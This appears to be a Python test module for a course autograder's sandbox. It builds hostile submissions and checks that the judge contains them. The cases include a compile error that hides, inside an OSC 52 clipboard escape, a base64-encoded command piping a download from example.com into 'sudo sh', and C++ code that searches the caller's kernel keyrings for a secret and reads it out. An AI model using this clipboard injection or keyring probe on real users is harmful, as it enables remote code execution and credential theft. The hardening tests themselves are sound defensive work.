"""The cases of entry_points.py: issue 45's families, the file of lab 05 that proves each, and
what must hold of it wherever it is graded (each a check over what the entry point printed and
wrote, and the probe's log it kept). Standard library only."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

CHEATS = Path(__file__).resolve().parents[2] / "grader" / "selftest" / "cheats"
SECRET = "TGT-for-instructor@BANKLAB.ENTRY-POINTS"

# Run first by every entry point: a fresh session keyring of the caller's with SECRET in it (as a
# pam_keyinit login holds a Kerberos ticket), then the entry point itself.
PLANT_KEY = r"""
import ctypes, os, platform, sys
nr = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine())
if nr:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    libc.syscall(ctypes.c_long(nr[1]), ctypes.c_long(1), None)  # KEYCTL_JOIN_SESSION_KEYRING, anonymous
    s = sys.argv[1].encode()
    if libc.syscall(ctypes.c_long(nr[0]), b"user", b"banklab-entry-points", s, ctypes.c_size_t(len(s)),
                    ctypes.c_long(-3)) < 0:
        sys.exit("entry_points: cannot plant the key in the session keyring")
os.execvp(sys.argv[2], sys.argv[2:])
"""

# The keys case's payload: the probe looks for the planted key in every keyring it could reach.
KEYS_PAYLOAD = r"""
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <string>
namespace banklab_entry_keys {
const int kLooked = [] {
  std::string said;
  for (long ring : {-3L, -4L, -5L}) {  // the session, user and user-session keyrings
    const long id = syscall(SYS_keyctl, 10L, ring, "user", "banklab-entry-points", 0L);  // KEYCTL_SEARCH
    if (id >= 0) {
      char buf[256] = {};
      const long n = syscall(SYS_keyctl, 11L, id, buf, sizeof buf - 1);  // KEYCTL_READ
      said += " FOUND " + std::string(buf, n > 0 ? static_cast<size_t>(n) : 0);
    } else {
      said += " keyring " + std::to_string(ring) + ": errno " + std::to_string(errno);
    }
  }
  std::printf("BANKLAB-PAYLOAD-KEYS ran:%s\n", said.c_str());
  std::fflush(stdout);
  return 0;
}();
}  // namespace banklab_entry_keys
"""

# A compile error line with OSC 52 (the clipboard), OSC 2 (the title), an erase, CR and a
# bidirectional override (issue 45, item 2).
OSC_ERROR = (b"\n#error A \x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuY29tIHwgc3VkbyBzaA==\x07 B "
             b"\x1b]2;banklab: every submission graded\x07 C \x1b[2K\r D \xe2\x80\xae E\n")


def read(p: Path) -> str:
    try:
        return p.read_bytes().decode("utf-8", "replace")
    except OSError:
        return ""


def case_files(root: Path, lab_dir: Path, mz) -> dict[str, bytes]:
    stub = (lab_dir / "kernel.cu").read_bytes()

    def cheat(name: str) -> bytes:
        return mz.materialize(mz.load_case(str(CHEATS / f"{name}.cu")), str(lab_dir)).encode()

    return {"probe_says_bubblewraps_error": cheat("probe_says_bubblewraps_error"),
            "compile_error_reads_as_bubblewraps": cheat("compile_error_reads_as_bubblewraps"),
            "probe_past_its_file_size_limit": cheat("probe_past_its_file_size_limit"),
            "comment_line_of_256_KiB": stub + b"\n//" + b" " * (256 << 10) + b"\n",
            "compile_error_with_terminal_sequences": stub + OSC_ERROR,
            "error_line_of_300000_characters": stub + b"\n#error " + b"x" * 300000 + b"\n",
            "probe_looks_for_the_callers_key": stub + KEYS_PAYLOAD.encode(),
            "forked_processes_share_the_memory": cheat("forked_processes_share_the_memory")}


# ---- the checks: each over {case: record} (entry_points.rec), (held, evidence) ------------------

def graded_words(r: dict) -> str:
    return ("graded" if r["graded"] else "NOT GRADED") + (f", Build {r['build']}" if r["build"] else "")


def whose_fault(recs: dict) -> tuple[bool, str]:
    cause = {"probe_says_bubblewraps_error": "answers could not be read",
             "compile_error_reads_as_bubblewraps": "does not compile",
             "probe_past_its_file_size_limit": "compiled probe is 65 MiB",
             "comment_line_of_256_KiB": ""}
    ok, said = True, []
    for case, words in cause.items():
        r = recs[case]
        build_ok = r["build"] in ("", "passed" if not words else "failed")
        held = r["graded"] and build_ok and (not words or words in r["text"])
        ok &= held
        said.append(f"{case}: {graded_words(r)}" + (f", says {words!r}" if words and words in r["text"] else ""))
    return ok, "; ".join(said)


def never_crashes(recs: dict) -> tuple[bool, str]:
    r = recs["comment_line_of_256_KiB"]
    crash = next((w for w in ("Segmentation fault", "SegFault", "signal 11", "exit 139", "core dumped")
                  if w in r["text"]), "")
    held = r["graded"] and r["build"] in ("", "passed") and not crash
    return held, f"{graded_words(r)}{', ' + crash if crash else ', no crash'} ({r['secs']:.1f} s)"


def nothing_unescaped(recs: dict) -> tuple[bool, str]:
    r = recs["compile_error_with_terminal_sequences"]
    raw = [n for n, c in (("ESC", "\x1b"), ("BEL", "\x07"), ("U+202E", "\u202e")) if c in r["text"]]
    shown = "\\x1b]52;c;" in r["text"]
    held = r["graded"] and not raw and shown
    return held, (f"{graded_words(r)}; raw {', '.join(raw)} in what it printed or wrote" if raw else
                  f"{graded_words(r)}; no ESC, BEL or U+202E in what it printed or wrote; "
                  + ("the sequence shown escaped (\\x1b]52;c;...)" if shown else "the escaped sequence NOT shown"))


def bounded(recs: dict) -> tuple[bool, str]:
    r = recs["error_line_of_300000_characters"]
    longest = max((len(m) for m in re.findall(r"x{1000,}", r["text"])), default=0)
    held = r["graded"] and r["build"] in ("", "failed") and longest <= 16 << 10 and r["secs"] < 180
    return held, f"{graded_words(r)}; the longest run of the line's x's in what it printed or wrote: {longest} " \
                 f"(the line: 300000); {r['secs']:.1f} s for the run"


def no_caller_keys(recs: dict) -> tuple[bool, str]:
    r = recs["probe_looks_for_the_callers_key"]
    line = next((l.strip() for l in r["probe"].splitlines() if "BANKLAB-PAYLOAD-KEYS ran" in l), "")
    leaked = SECRET in r["text"] or SECRET in r["probe"] or "FOUND" in line
    held = r["graded"] and bool(line) and not leaked
    return held, f"{graded_words(r)}; probe: {line or 'its payload did not run (no line in the probe log)'}" + \
                 ("; THE KEY REACHED IT" if leaked else "; the planted key is nowhere in what it printed or wrote")


def kept_work(recs: dict) -> tuple[bool, str]:
    r = recs["probe_past_its_file_size_limit"]
    size, note, rc = r["keep"]
    held = rc in (0, 1) and 0 < size <= 64 << 20 and "probe" in note
    first = next((l.strip()[:200] for l in note.splitlines() if "probe" in l), "no NOT-KEPT.txt naming the probe")
    return held, f"grade-class exit {rc}; kept {size} bytes of the submission's work (at most {64 << 20}); {first}"


def cgroup_limits(recs: dict) -> tuple[bool, str]:
    r = recs["forked_processes_share_the_memory"]
    m = re.search(r"BANKLAB-CHEAT-FORKED-MEMORY (\d+) of 6 children .*?= (\d+) MiB held", r["probe"])
    held = r["graded"] and bool(m) and int(m.group(1)) <= 1 and int(m.group(2)) < 1100
    return held, f"{graded_words(r)}; probe: " + (m.group(0) if m else "its payload's line is not in the probe log")


# What the judge says when grading that counts finds no cgroup per step (grader/judge/main.cpp's
# sandbox_refusal): every grading entry point's cell where the judge has no cgroup (issue 45).
STEP_LIMITS_REFUSAL = "the judge can make no cgroup per step here"


def refused_for_step_limits(recs: dict) -> tuple[bool, str]:
    """Each case NOT GRADED with the judge's refusal, and no step of the file ran: no probe log
    kept, no payload's line anywhere (the case that would run the file is the plain build's:
    ctest's cells)."""
    ok, bad = True, []
    for case, r in recs.items():
        ran = r["probe"] or "BANKLAB-PAYLOAD" in r["text"] or "BANKLAB-CHEAT" in r["text"]
        held = not r["graded"] and STEP_LIMITS_REFUSAL in r["text"] and r["build"] in ("", "fault") and not ran
        ok &= held
        if not held:
            bad.append(f"{case}: {graded_words(r)}" + ("; a step of the file ran" if ran else "") +
                       ("" if STEP_LIMITS_REFUSAL in r["text"] else "; the refusal is not said"))
    return ok, (f"refused, not graded: {len(recs)} of {len(recs)} case(s) NOT GRADED, each saying "
                f"{STEP_LIMITS_REFUSAL!r} with its fix; no step of the file ran (no probe log, no payload's line)"
                if ok else "; ".join(bad))


@dataclass
class Family:
    name: str
    cases: list[str]
    what: str
    check: Callable | None = None
    only: list[str] = field(default_factory=list)  # the entry points it applies to (all when empty)
    na: str = ""
    device: bool = False

    def applies(self, entry: str) -> bool:
        return not self.only or entry in self.only


DEVICE_CASE = "solutions/05_swizzle/cases/cheats/device_heap_carries_state_05.patch"
FAMILIES = [
    Family("whose fault", ["probe_says_bubblewraps_error", "compile_error_reads_as_bubblewraps",
                           "probe_past_its_file_size_limit", "comment_line_of_256_KiB"],
           "the issue's four cases of a file that made itself \"not graded\" (a probe printing bubblewrap's own "
           "error line, a compile error reading as it through #line, a probe past its 64 MiB file-size limit, a "
           "comment line of 256 KiB that crashed the judge): each is graded, its build failed with its cause "
           "(answers not read, does not compile, the probe's size) or, for the comment line, passed", whose_fault),
    Family("never crashes", ["comment_line_of_256_KiB"],
           "the stub plus a comment line of 256 KiB of spaces (std::regex's recursion crashed the judge on it, exit "
           "139): graded, its build passed, no crash", never_crashes),
    Family("nothing unescaped", ["compile_error_with_terminal_sequences"],
           "a compile error line carrying OSC 52, OSC 2, an erase, CR and U+202E: no ESC, BEL or U+202E in "
           "anything the entry point printed or wrote (feedback, records, gradebook, LMS and platform files), and "
           "the sequence shown escaped", nothing_unescaped),
    Family("bounded text and time", ["error_line_of_300000_characters"],
           "`#error` and a 300,000-character line: graded (build failed), the quote cut to at most 16 KiB in "
           "everything printed or written, the run in under 180 s", bounded),
    Family("no caller keys", ["probe_looks_for_the_callers_key"],
           "every entry point starts with a key planted in its caller's session keyring; the probe searches the "
           "session, user and user-session keyrings for it: its line in the probe's log says it found nothing, "
           "and the key's text is in nothing printed or written", no_caller_keys),
    Family("kept work", ["probe_past_its_file_size_limit"],
           "grade-class --keep-work with the 65 MiB probe: the submission's kept work stays within 64 MiB, what "
           "did not fit is named in NOT-KEPT.txt, the class run ends with its reports", kept_work,
           only=["grade-class", "Slurm task"], na="only grade-class keeps work (--keep-work)"),
    Family("limits on cgroups", ["forked_processes_share_the_memory"],
           "six forked children of the probe each touch 800 MiB: the step's cgroup (placed before exec, cgroup v1 "
           "here) stops them together: at most one holds its memory at once, under 1100 MiB held", cgroup_limits),
    Family("no state between launches", [],
           "the device heap: a kernel's malloc'd block must not reach the next judged launch (GPU only)", device=True),
]

DEVICE_NOTE = (
    "## The GPU family (device)\n\n"
    f"`{DEVICE_CASE}` (a kernel keeps state in the device heap between judged launches; the judge refuses "
    "fatbins that call the device heap) runs only on the GPU machine. Command (the lead's, on the H200): "
    "`KINDS=cheat LAB_ONLY=1 bash bench/device_cases.sh 05` (lab 05's own cheats, this one among them, through "
    "`banklab-judge grade --tier all --gpu`; its line is in `$OUT/cases_05.txt`, OK when its GPU tests fail "
    "with its message). Its last device run is in the session note of stop 49 (not measured by this script).")
